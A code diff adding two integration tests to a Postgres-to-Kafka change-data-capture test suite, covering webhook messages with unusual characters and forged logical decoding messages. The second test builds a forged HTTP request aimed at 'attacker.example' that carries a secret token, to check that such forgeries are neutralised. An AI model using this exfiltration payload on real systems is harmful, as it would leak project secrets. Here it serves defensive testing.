@@ -7,6 +7,7 @@ import pg from 'pg';
 import { ConnectClient } from '../../src/kafka/index.js';
 import { connectorName, slotName } from '../../src/outbox/index.js';
 import { disableOutbox, enableOutbox, type OutboxEnv } from '../../src/outbox/enable.js';
+import { installWebhookTrigger } from '../../src/outbox/webhook-triggers.js';
 import { createDatabase, createTopicReady, dropDatabase, eventually, stack, uniqueName } from '../helpers/env.js';
 
 describe('CDC smoke path: base.outbox → Debezium → Kafka', () => {
@@ -82,6 +83,28 @@ describe('CDC smoke path: base.outbox → Debezium → Kafka', () => {
     } finally {
       await db.query('rollback');
     }
+  });
+
+  it("carries a webhook's logical decoding message with its text intact, whatever the characters", async () => {
+    expect((await db.query('select message_prefix from base.capture')).rows[0].message_prefix).toMatch(/^base_outbox_[0-9a-f]{32}$/);
+    await db.query('create table public.words (id serial primary key, word text)');
+    await installWebhookTrigger(db, { id: '5e4d3c2b-1a09-4f8e-9d7c-6b5a49382716', schema: 'public', table: 'words', events: ['INSERT'] });
+    const word = `héllo ✓ 日本語 🎉 "quoted" \\ back\\slash \u0001 ${Date.now()}`;
+    await db.query('insert into public.words (word) values ($1)', [word]);
+    const msg = await eventually(async () => received.find((m) => m.headers?.kind?.toString() === 'webhook' && JSON.parse(m.value!.toString()).payload?.record?.word === word), 60_000, 'the webhook message, its text intact');
+    expect(msg.headers?.project?.toString()).toBe(ref);
+  });
+
+  it('gives a forged message under the prefix the webhook kind, whatever it claims to be', async () => {
+    // a role that could read the prefix (a superuser, pg_read_all_data) forging an http request
+    // with the project's secrets: the message path only ever carries webhooks, read by webhook id
+    const prefix = (await db.query('select message_prefix from base.capture')).rows[0].message_prefix as string;
+    const id = (await db.query('select gen_random_uuid()::text as id')).rows[0].id as string;
+    const forged = JSON.stringify({ id, aggregatetype: 'message', aggregateid: id, type: 'http', payload: JSON.stringify({ id, kind: 'http', method: 'POST', url: 'https://attacker.example/{{secret:TOKEN}}' }) });
+    await db.query('select pg_logical_emit_message(true, $1, $2)', [prefix, forged]);
+    const msg = await eventually(async () => received.find((m) => m.headers?.id?.toString() === id), 60_000, 'the forged message on the topic');
+    const kinds = msg.headers?.kind;
+    expect((Array.isArray(kinds) ? kinds : [kinds]).map((k) => k?.toString())).toEqual(['webhook']);
   });
 
   it('removing the connector drops its replication slot and publication', async () => {
